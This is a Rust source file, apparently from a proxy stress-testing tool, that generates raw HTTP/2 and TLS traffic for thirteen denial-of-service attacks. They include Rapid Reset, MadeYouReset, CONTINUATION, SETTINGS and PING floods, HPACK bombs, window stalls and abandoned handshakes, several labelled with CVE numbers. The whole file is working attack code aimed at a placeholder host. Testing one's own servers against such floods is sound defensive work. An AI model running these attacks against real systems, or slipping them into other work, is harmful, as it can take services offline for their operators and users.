//! What each attacker says, without end.

use std::io;
use std::time::Duration;

use rustls::ClientConnection;
use rustls::pki_types::ServerName;

use crate::frames::{END_HEADERS, END_STREAM, PREFACE, block, frame, indexed, kind};
use crate::wire::{Handshakes, config};

/// Bytes that are written at a time.
pub const CHUNK: usize = 16 * 1024;
/// Requests at once on a connection, as many as a proxy usually allows.
const STREAMS: u32 = 100;

macro_rules! attacks {
    ($($(#[$doc:meta])* $variant:ident, $name:literal;)*) => {
        /// An attack.
        #[derive(Debug, Clone, Copy, PartialEq, Eq)]
        pub enum Attack {
            $($(#[$doc])* $variant,)*
        }

        impl Attack {
            /// The attack of that name.
            pub fn named(name: &str) -> Option<Self> {
                match name { $($name => Some(Self::$variant),)* _ => None }
            }

            /// All names.
            pub const NAMES: &'static [&'static str] = &[$($name),*];
        }
    };
}

attacks! {
    /// Requests that are cancelled at once (CVE-2023-44487).
    RapidReset, "rapid_reset";
    /// Requests that the proxy is made to cancel (CVE-2025-8671).
    MadeYouReset, "made_you_reset";
    /// More requests at once than are allowed.
    StreamFlood, "stream_flood";
    /// A head without an end (CVE-2024-27316).
    ContinuationFlood, "continuation_flood";
    /// Settings without end (CVE-2019-9515).
    SettingsFlood, "settings_flood";
    /// Pings without end (CVE-2019-9512).
    PingFlood, "ping_flood";
    /// Frames with nothing in them (CVE-2019-9518).
    EmptyFrames, "empty_frames";
    /// Heads that unpack to a hundred times their size (CVE-2016-6581).
    HpackBomb, "hpack_bomb";
    /// Heads ten times larger than allowed, from few bytes each.
    LargeHeads, "large_heads";
    /// Large answers of which the window lets nothing come (CVE-2019-9517).
    WindowStall, "window_stall";
    /// Large answers that nobody takes out of the socket.
    UnreadAnswers, "unread_answers";
    /// Handshakes that are given up once the proxy has done its part.
    TlsHandshakes, "tls_handshakes";
    /// Handshakes that do not go on.
    SlowHandshakes, "slow_handshakes";
}

impl Attack {
    /// Whether what the proxy sends is taken out of the socket.
    pub fn reads(self) -> bool {
        self != Self::UnreadAnswers
    }

    /// When the attacker leaves and comes again, where all that there is to do is done at once.
    pub fn stays(self) -> Option<Duration> {
        matches!(self, Self::WindowStall | Self::UnreadAnswers).then_some(Duration::from_secs(4))
    }

    /// Whether the attacker leaves once the proxy has answered anything.
    pub fn leaves_at_answer(self) -> bool {
        self == Self::TlsHandshakes
    }
}

/// One attacker's words.
#[derive(Debug)]
pub struct Script {
    attack: Attack,
    begun: bool,
    stream: u32,
    head: Vec<u8>,
}

impl Script {
    /// From the start of a connection.
    pub fn new(attack: Attack) -> Self {
        let path = match attack {
            Attack::WindowStall | Attack::UnreadAnswers => "/large",
            _ => "/",
        };
        let method = if attack == Attack::EmptyFrames { "POST" } else { "GET" };
        let head = block(&[
            (":method", method),
            (":scheme", "http"),
            (":authority", "app.example.com"),
            (":path", path),
        ]);
        Self { attack, begun: false, stream: 1, head }
    }

    /// Appends what comes next, about [`CHUNK`] bytes of it; nothing where the attacker only waits from here on.
    pub fn more(&mut self, out: &mut Vec<u8>) -> io::Result<()> {
        if !std::mem::replace(&mut self.begun, true) {
            self.begin(out)?;
        }
        while out.len() < CHUNK && self.step(out) {}
        Ok(())
    }

    fn begin(&mut self, out: &mut Vec<u8>) -> io::Result<()> {
        match self.attack {
            Attack::TlsHandshakes => {
                client_hello(out)?;
                return Ok(());
            }
            Attack::SlowHandshakes => {
                client_hello(out)?;
                out.truncate(out.len() / 2);
                return Ok(());
            }
            _ => {}
        }
        out.extend_from_slice(PREFACE);
        // SETTINGS_INITIAL_WINDOW_SIZE
        let window: u32 = match self.attack {
            Attack::WindowStall => 0,
            _ => (1 << 31) - 1,
        };
        let [a, b, c, d] = window.to_be_bytes();
        frame(out, (kind::SETTINGS, 0, 0), &[0, 4, a, b, c, d]);
        frame(out, (kind::WINDOW_UPDATE, 0, 0), &((1_u32 << 31) - 1 - 65_535).to_be_bytes());
        match self.attack {
            Attack::ContinuationFlood => frame(out, (kind::HEADERS, END_STREAM, 1), &self.head),
            Attack::EmptyFrames => frame(out, (kind::HEADERS, END_HEADERS, 1), &self.head),
            Attack::LargeHeads => {
                let mut head = self.head.clone();
                indexed(&mut head, "x", &[b'y'; 3900]);
                self.request(out, &head);
                self.head.extend(std::iter::repeat_n(0xbe, 90));
            }
            _ => {}
        }
        Ok(())
    }

    /// Appends one turn of the attack; false where there is nothing more to say.
    fn step(&mut self, out: &mut Vec<u8>) -> bool {
        let head = std::mem::take(&mut self.head);
        let stream = self.stream;
        match self.attack {
            Attack::RapidReset => {
                self.request(out, &head);
                frame(out, (kind::RST_STREAM, 0, stream), &8_u32.to_be_bytes());
            }
            Attack::MadeYouReset => {
                self.request(out, &head);
                // A window update of nothing is an error of the stream (RFC 9113 section 6.9).
                frame(out, (kind::WINDOW_UPDATE, 0, stream), &[0; 4]);
            }
            Attack::StreamFlood | Attack::LargeHeads => self.request(out, &head),
            Attack::ContinuationFlood => frame(out, (kind::CONTINUATION, 0, 1), &[0, 1, b'x', 1, b'y']),
            Attack::SettingsFlood => frame(out, (kind::SETTINGS, 0, 0), &[]),
            Attack::PingFlood => frame(out, (kind::PING, 0, 0), &[0; 8]),
            Attack::EmptyFrames => frame(out, (kind::DATA, 0, 1), &[]),
            Attack::HpackBomb => {
                let mut bomb = head.clone();
                indexed(&mut bomb, "x", &[b'y'; 3900]);
                bomb.extend(std::iter::repeat_n(0xbe, 12_000));
                self.request(out, &bomb);
            }
            Attack::WindowStall | Attack::UnreadAnswers if stream < 2 * STREAMS => self.request(out, &head),
            Attack::WindowStall | Attack::UnreadAnswers | Attack::TlsHandshakes | Attack::SlowHandshakes => {
                return false;
            }
        }
        self.head = head;
        true
    }

    /// Appends a request without a body, on the next stream.
    fn request(&mut self, out: &mut Vec<u8>, head: &[u8]) {
        frame(out, (kind::HEADERS, END_STREAM | END_HEADERS, self.stream), head);
        self.stream += 2;
    }
}

/// Appends the first message of a handshake.
fn client_hello(out: &mut Vec<u8>) -> io::Result<()> {
    let name = ServerName::try_from("app.example.com").expect("a name");
    let mut connection = ClientConnection::new(config(Handshakes::Full), name).map_err(io::Error::other)?;
    connection.write_tls(out).map(drop)
}
